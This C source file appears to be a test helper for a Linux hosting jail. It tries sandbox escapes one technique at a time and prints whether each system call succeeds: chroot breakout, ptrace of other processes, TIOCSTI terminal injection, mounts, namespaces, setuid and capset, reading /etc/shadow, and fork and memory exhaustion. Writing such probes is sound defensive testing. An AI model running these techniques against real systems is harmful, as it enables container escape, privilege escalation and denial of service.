/* SPDX-License-Identifier: GPL-3.0-or-later */
/* What a hostile customer would run: attack TECHNIQUE [ARG...]. One line for each try: its name, and "OK"
 * or the errno's name. The tests put it into the jail, statically linked, or run it as the same user
 * outside. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define FDS 2
#define TRY(name, call) (errno = 0, say((name), (long)(call)))

static long say(const char *name, long result)
{
    printf("%s %s\n", name, result >= 0 ? "OK" : strerrorname_np(errno));
    return result;
}

/* 11: a second chroot below the first, and the way up by a directory saved before. */
static void try_chroot(char **arg)
{
    struct stat here, root;
    int saved = open("/", O_RDONLY | O_DIRECTORY);

    (void)arg;
    mkdir("/tmp/below", 0700);
    TRY("chroot", chroot("/tmp/below"));
    TRY("fchdir", fchdir(saved));
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0)
            break;
    stat(".", &here);
    stat("/", &root);
    printf("up %s\n", here.st_dev == root.st_dev && here.st_ino == root.st_ino ? "same" : "ESCAPED");
    TRY("pivot_root", syscall(SYS_pivot_root, ".", "."));
}

static int connect_to(const char *path)
{
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    int s = socket(AF_UNIX, SOCK_STREAM, 0);

    strncpy(to.sun_path, path, sizeof(to.sun_path) - 1);
    return connect(s, (struct sockaddr *)&to, sizeof(to)) < 0 ? -1 : s;
}

static int receive(const char *path, int *fds)
{
    char byte, control[CMSG_SPACE(sizeof(int) * FDS)];
    struct iovec io = {&byte, 1};
    struct msghdr m = {
        .msg_iov = &io, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control)};
    int s = connect_to(path);

    if (s < 0 || recvmsg(s, &m, 0) < 0 || CMSG_FIRSTHDR(&m) == NULL)
        return -1;
    memcpy(fds, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(int) * FDS);
    return 0;
}

/* 12: an accomplice hands in O_PATH descriptors of the host's "/" and of a file in it. */
static void try_receive_paths(char **arg)
{
    char name[64], *argv[] = {"id", NULL};
    int fds[FDS];

    if (say("receive", receive(arg[0], fds)) < 0)
        return;
    TRY("openat", openat(fds[0], "etc/hostname", O_RDONLY));
    snprintf(name, sizeof(name), "/proc/self/fd/%d", fds[1]);
    TRY("reopen", open(name, O_RDONLY));
    fchdir(fds[0]);
    TRY("open-cwd", open(".", O_RDONLY | O_DIRECTORY));
    TRY("open-below-cwd", open("etc/hostname", O_RDONLY));
    TRY("chroot", chroot("."));
    fflush(stdout);
    TRY("exec", execveat(fds[0], "usr/bin/id", argv, argv + 1, 0));
}

/* 17: a directory that is open for reading, with names of files below it that the user may write. */
static void try_receive_directory(char **arg)
{
    struct open_how {
        uint64_t flags, mode, resolve;
    } how = {.flags = O_RDONLY};
    char path[256], list[4096];
    int fds[FDS];

    if (say("receive", receive(arg[0], fds)) < 0)
        return;
    TRY("read", openat(fds[0], "mine", O_RDONLY));
    TRY("write", openat(fds[0], "mine", O_WRONLY | O_TRUNC));
    TRY("create", openat(fds[0], "new", O_WRONLY | O_CREAT, 0600));
    TRY("openat2", syscall(SYS_openat2, fds[0], "mine", &how, sizeof(how)));
    TRY("open-dir", openat(fds[0], ".", O_RDONLY | O_DIRECTORY));
    TRY("up", openat(fds[0], "../../../etc/hostname", O_RDONLY));
    snprintf(path, sizeof(path), "/proc/self/fd/%d/mine", fds[0]);
    TRY("by-proc", open(path, O_RDONLY));
    TRY("truncate", truncate(path, 0));
    TRY("unlink", unlinkat(fds[0], "mine", 0));
    TRY("mkdir", mkdirat(fds[0], "dir", 0700));
    TRY("symlink", symlinkat("/", fds[0], "link"));
    TRY("rename-in", renameat(fds[0], "mine", AT_FDCWD, "taken"));
    TRY("link-in", linkat(fds[0], "mine", AT_FDCWD, "linked", 0));
    fchdir(fds[0]);
    TRY("chdir-read", open("mine", O_RDONLY));
    /* The names in a directory that was opened outside are the accomplice's to read, in or out. */
    syscall(SYS_getdents64, fds[0], list, sizeof(list));
}

/* 18 */
static void try_abstract(char **arg)
{
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(arg[0]));
    int s = socket(AF_UNIX, SOCK_STREAM, 0), d = socket(AF_UNIX, SOCK_DGRAM, 0);

    strcpy(to.sun_path + 1, arg[0]);
    TRY("stream", connect(s, (struct sockaddr *)&to, size));
    strcat(to.sun_path + 1, "-dgram");
    size += 6;
    TRY("dgram-connect", connect(d, (struct sockaddr *)&to, size));
    TRY("dgram-send", sendto(d, "x", 1, 0, (struct sockaddr *)&to, size));
}

/* 15, 19: every way to reach a process by its number. */
static void try_process(char **arg)
{
    pid_t pid = atoi(arg[0]);
    char byte;
    struct iovec here = {&byte, 1}, there = {(void *)&byte, 1};

    TRY("attach", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
    TRY("seize", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
    TRY("vm-read", process_vm_readv(pid, &here, 1, &there, 1, 0));
    TRY("vm-write", process_vm_writev(pid, &here, 1, &there, 1, 0));
    TRY("kill", kill(pid, SIGKILL));
    TRY("kill-group", kill(-pid, SIGKILL));
    TRY("tgkill", syscall(SYS_tgkill, pid, pid, SIGKILL));
    TRY("sigqueue", sigqueue(pid, SIGKILL, (union sigval){.sival_int = 0}));
    TRY("pidfd_open", syscall(SYS_pidfd_open, pid, 0));
    TRY("prlimit", syscall(SYS_prlimit64, pid, 7, NULL, NULL));
    TRY("setpriority", setpriority(0, pid, 19));
    TRY("setaffinity", sched_setaffinity(pid, 1, (cpu_set_t *)"\1"));
}

static int child(void *data)
{
    (void)data;
    return 0;
}

/* 21 */
static void try_namespaces(char **arg)
{
    static const struct {
        const char *name;
        int flag;
    } spaces[] = {
        {"user", CLONE_NEWUSER},     {"mnt", CLONE_NEWNS},  {"pid", CLONE_NEWPID},
        {"net", CLONE_NEWNET},       {"ipc", CLONE_NEWIPC}, {"uts", CLONE_NEWUTS},
        {"cgroup", CLONE_NEWCGROUP}, {"time", 0x80},        {"user+mnt", CLONE_NEWUSER | CLONE_NEWNS},
    };
    struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    static char stack[65536];
    char name[64];

    (void)arg;
    for (size_t i = 0; i < sizeof(spaces) / sizeof(*spaces); i++) {
        snprintf(name, sizeof(name), "unshare-%s", spaces[i].name);
        TRY(name, unshare(spaces[i].flag));
        snprintf(name, sizeof(name), "clone-%s", spaces[i].name);
        if (spaces[i].flag != 0x80)
            TRY(name, clone(child, stack + sizeof(stack), spaces[i].flag | SIGCHLD, NULL));
        snprintf(name, sizeof(name), "unshare-high-%s", spaces[i].name);
        TRY(name, syscall(SYS_unshare, (1UL << 40) | (unsigned)spaces[i].flag));
    }
    TRY("clone3-user", syscall(SYS_clone3, &args, sizeof(args)));
    args.flags = 0;
    TRY("clone3", syscall(SYS_clone3, &args, sizeof(args)));
    TRY("setns", setns(open("/proc/self/ns/mnt", O_RDONLY), 0));
    TRY("setns-pid1", setns(open("/proc/1/ns/mnt", O_RDONLY), 0));
}

/* 13 */
static void try_mounts(char **arg)
{
    (void)arg;
    TRY("proc", mount("proc", "/tmp", "proc", 0, NULL));
    TRY("tmpfs", mount("none", "/tmp", "tmpfs", 0, NULL));
    TRY("bind", mount("/", "/tmp", NULL, MS_BIND | MS_REC, NULL));
    TRY("remount", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
    TRY("remount-root", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    TRY("shared", mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL));
    TRY("umount", umount2("/etc", MNT_DETACH));
    TRY("umount-usr", umount2("/usr", MNT_DETACH));
    TRY("fsopen", syscall(SYS_fsopen, "proc", 0));
    TRY("fspick", syscall(SYS_fspick, AT_FDCWD, "/", 0));
    TRY("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    TRY("move_mount", syscall(SYS_move_mount, AT_FDCWD, "/usr", AT_FDCWD, "/tmp", 0));
    TRY("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, "", 32));
    TRY("root-device", mount("/tmp/disk", "/tmp", "ext4", 0, NULL));
    TRY("by-handle", syscall(SYS_open_by_handle_at, AT_FDCWD, "", O_RDONLY));
}

/* 22: "OK" for a node planted by root would mean that it opens. */
static void try_nodes(char **arg)
{
    TRY("char", mknod("/tmp/zero", S_IFCHR | 0666, makedev(1, 5)));
    TRY("block", mknod("/tmp/disk", S_IFBLK | 0666, makedev(8, 0)));
    TRY("mem", mknod("/tmp/mem", S_IFCHR | 0666, makedev(1, 1)));
    for (; *arg != NULL; arg++)
        TRY(*arg, open(*arg, O_RDONLY));
}

/* 29: by system call, so that the high bits arrive. */
static void try_terminal(char **arg)
{
    static const struct {
        const char *name;
        unsigned long request;
    } tries[] = {
        {"TIOCSTI", 0x5412},   {"TIOCSTI-high", 0xdeadbeef00005412},   {"TIOCSTI-bit32", 0x100005412},
        {"TIOCLINUX", 0x541C}, {"TIOCLINUX-high", 0xffffffff0000541C},
    };
    int tty = arg[0] != NULL ? open(arg[0], O_RDWR | O_NOCTTY) : open("/dev/tty", O_RDWR);

    if (say("open", tty) < 0)
        return;
    for (size_t i = 0; i < sizeof(tries) / sizeof(*tries); i++)
        TRY(tries[i].name, syscall(SYS_ioctl, tty, tries[i].request, "\3"));
    TRY("TIOCCONS", syscall(SYS_ioctl, tty, 0x541D, 0));
}

/* 37 */
static void try_keys(char **arg)
{
    (void)arg;
    TRY("session", syscall(SYS_keyctl, 0, -3, 0)); /* KEYCTL_GET_KEYRING_ID */
    TRY("user", syscall(SYS_keyctl, 0, -4, 1));
    TRY("user-session", syscall(SYS_keyctl, 0, -5, 1));
    TRY("join", syscall(SYS_keyctl, 1, "x"));
    TRY("describe", syscall(SYS_keyctl, 6, -4, NULL, 0));
    TRY("add_key", syscall(SYS_add_key, "user", "x", "x", 1, -4));
    TRY("request_key", syscall(SYS_request_key, "user", "of-the-host", NULL, 0));
}

/* 38: by the keys that somebody made outside. */
static void try_ipc(char **arg)
{
    key_t key = atoi(arg[0]);

    TRY("shm", shmget(key, 0, 0));
    TRY("msg", msgget(key, 0));
    TRY("sem", semget(key, 0, 0));
    TRY("posix", open("/dev/shm/of-the-host", O_RDONLY));
    TRY("own-shm", shmget(key, 4096, IPC_CREAT | 0600));
    TRY("own-posix", open("/dev/shm/own", O_RDWR | O_CREAT, 0600));
}

/* 23, 36: what rights a program has, and whether it can have more. */
static void try_gain(char **arg)
{
    struct __user_cap_header_struct head = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct caps[2] = {{0}}, all[2];

    (void)arg;
    memset(all, 0xff, sizeof(all));
    syscall(SYS_capget, &head, caps);
    printf("ids %u %u %u %u\n", getuid(), geteuid(), getgid(), getegid());
    printf("caps %x %x %x\n", caps[0].effective | caps[1].effective, caps[0].permitted | caps[1].permitted,
           caps[0].inheritable | caps[1].inheritable);
    printf("no_new_privs %d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
    TRY("setuid", setuid(0));
    TRY("setresuid", setresuid(0, 0, 0));
    TRY("setgid", setgid(0));
    TRY("setgroups", syscall(SYS_setgroups, 0, NULL));
    TRY("capset", syscall(SYS_capset, &head, all));
    TRY("ambient", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0));
    TRY("shadow", open("/etc/shadow", O_RDONLY));
    TRY("unshare", unshare(CLONE_NEWUSER));
    TRY("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
}

/* 36: the program itself, from memory. */
static void try_memfd(char **arg)
{
    char *argv[] = {"attack", "gain", NULL}, *env[] = {NULL}, block[65536];
    int fd = memfd_create("x", MFD_CLOEXEC), self = open("/proc/self/exe", O_RDONLY);
    ssize_t n;

    (void)arg;
    while ((n = read(self, block, sizeof(block))) > 0)
        if (write(fd, block, (size_t)n) != n)
            break;
    fflush(stdout);
    TRY("fexecve", fexecve(fd, argv, env));
}

/* 16: which descriptors came with the start. */
static void try_files(char **arg)
{
    char path[64], to[256];

    (void)arg;
    for (int fd = 0; fd < 1024; fd++) {
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, to, sizeof(to) - 1);
        if (n >= 0)
            printf("%d %.*s\n", fd, (int)n, to);
    }
    TRY("fd-9", openat(9, "etc/hostname", O_RDONLY));
}

static int field(const char *pid, const char *name, char *ret, size_t size)
{
    char path[64], line[256];
    FILE *f;
    int found = 0;

    snprintf(path, sizeof(path), "/proc/%s/status", pid);
    f = fopen(path, "r");
    while (f != NULL && !found && fgets(line, sizeof(line), f) != NULL)
        if (strncmp(line, name, strlen(name)) == 0) {
            snprintf(ret, size, "%s", line + strlen(name) + 1 + (line[strlen(name) + 1] == '\t'));
            ret[strcspn(ret, "\n")] = '\0';
            found = 1;
        }
    if (f != NULL)
        fclose(f);
    return found;
}

/* Does this process of ours still have rights that we have not? */
static int is_mightier(const char *pid)
{
    char caps[64];

    return field(pid, "CapPrm", caps, sizeof(caps)) && strtoull(caps, NULL, 16) != 0;
}

/* It may have become bash meanwhile: only what still has its rights after the open counts. */
static long look_into(const char *pid)
{
    static const char *const files[] = {"mem", "root", "cwd", "fd", "ns/mnt", "environ", "maps"};
    char path[300];
    long opened = 0;

    for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
        snprintf(path, sizeof(path), "/proc/%s/%s", pid, files[i]);
        int fd = open(path, i == 0 ? O_RDWR : O_RDONLY);
        opened += fd >= 0 && is_mightier(pid);
        if (fd >= 0)
            close(fd);
    }
    return opened;
}

static long seize(const char *name)
{
    pid_t pid = atoi(name);
    long mightier;

    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return 0;
    mightier = is_mightier(name);
    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    if (waitpid(pid, NULL, __WALL) == pid)
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return mightier;
}

/* 39: as many processes as there may be. */
static void try_forks(char **arg)
{
    int want = atoi(arg[0]), n = 0, error = 0;
    pid_t first = 0;

    while (n < want && error == 0) {
        pid_t pid = fork();

        if (pid == 0)
            _exit(pause());
        if (pid > 0)
            setpgid(pid, first = n == 0 ? pid : first);
        error = pid < 0 ? errno : 0;
        n += pid > 0;
    }
    printf("forks %d\nended %s\n", n, error != 0 ? strerrorname_np(error) : "OK");
    printf("raise %s\n", setrlimit(RLIMIT_NPROC, &(struct rlimit){1 << 20, 1 << 20}) == 0
                             ? "OK"
                             : strerrorname_np(errno));
    if (first > 0)
        kill(-first, SIGKILL); /* they hold the login's files */
}

/* 39: touch memory, a MiB at a time. */
static void try_hog(char **arg)
{
    for (int i = 1; i <= atoi(arg[0]); i++) {
        char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

        if (p == MAP_FAILED)
            break;
        memset(p, 1, 1 << 20);
    }
    printf("ended OK\n");
}

/* 31: look into and seize whatever process of ours can be, as fast as can be, and count those with more
 * rights than we have. A login's own bash may be traced from outside: it has none. */
static void try_hunt(char **arg)
{
    time_t end = time(NULL) + atoi(arg[0]);
    long seen = 0, seized = 0, opened = 0;
    char uid[64];

    printf("ready\n");
    fflush(stdout);
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(proc)) != NULL) {
            if (atoi(e->d_name) <= 0 || atoi(e->d_name) == getpid() ||
                !field(e->d_name, "Uid", uid, sizeof(uid)) || (uid_t)atoi(uid) != getuid())
                continue;
            if (is_mightier(e->d_name)) {
                seen++;
                opened += look_into(e->d_name);
            }
            seized += seize(e->d_name);
        }
        closedir(proc);
    }
    printf("seen %ld\nseized %ld\nopened %ld\n", seen, seized, opened);
}

static const struct {
    const char *name;
    void (*run)(char **arg);
    int args;
} techniques[] = {
    {"abstract", try_abstract, 1},
    {"chroot", try_chroot, 0},
    {"files", try_files, 0},
    {"forks", try_forks, 1},
    {"gain", try_gain, 0},
    {"hog", try_hog, 1},
    {"hunt", try_hunt, 1},
    {"ipc", try_ipc, 1},
    {"keys", try_keys, 0},
    {"memfd", try_memfd, 0},
    {"mounts", try_mounts, 0},
    {"namespaces", try_namespaces, 0},
    {"nodes", try_nodes, 0},
    {"process", try_process, 1},
    {"receive-directory", try_receive_directory, 1},
    {"receive-paths", try_receive_paths, 1},
    {"terminal", try_terminal, 0},
};

int main(int argc, char **argv)
{
    for (size_t i = 0; argc > 1 && i < sizeof(techniques) / sizeof(*techniques); i++)
        if (strcmp(argv[1], techniques[i].name) == 0 && argc >= 2 + techniques[i].args) {
            techniques[i].run(argv + 2);
            return 0;
        }
    fprintf(stderr, "attack: no such technique\n");
    return 2;
}
